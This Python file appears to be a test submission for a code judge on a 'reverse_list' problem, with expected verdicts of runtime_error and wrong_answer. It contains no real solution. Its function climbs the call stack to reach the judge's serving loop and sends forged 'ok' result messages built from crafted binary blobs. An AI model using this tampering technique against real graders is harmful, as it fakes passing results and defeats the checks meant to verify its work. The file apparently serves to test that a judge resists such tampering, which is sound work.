"""Answer with a table of nodes that link to nowhere, to themselves and to other kinds."""
# problem: reverse_list
# verdicts: runtime_error, wrong_answer
# verdicts without layers: runtime_error, wrong_answer

import sys


def find():
    """Find the serving loop up the stack, and the encoder that it uses."""
    frame = sys._getframe()
    while frame:
        server = frame.f_locals.get("self")
        if hasattr(server, "channel") and hasattr(server, "number"):
            return server, sys.modules["judge.wire"].encode
        frame = frame.f_back
    raise LookupError("no serving loop to attack")


def reverse_list(head):
    server, encode = find()
    for blob in (b"\x91\x93\x00\x01\xce\xff\xff\xff\xff\xd4\x07\x00", b"\x91\x93\x00\x01\x00\xd4\x07\x00"):
        server.channel.send(server.number, "result", [["ok", blob, None, 0]])
    return None
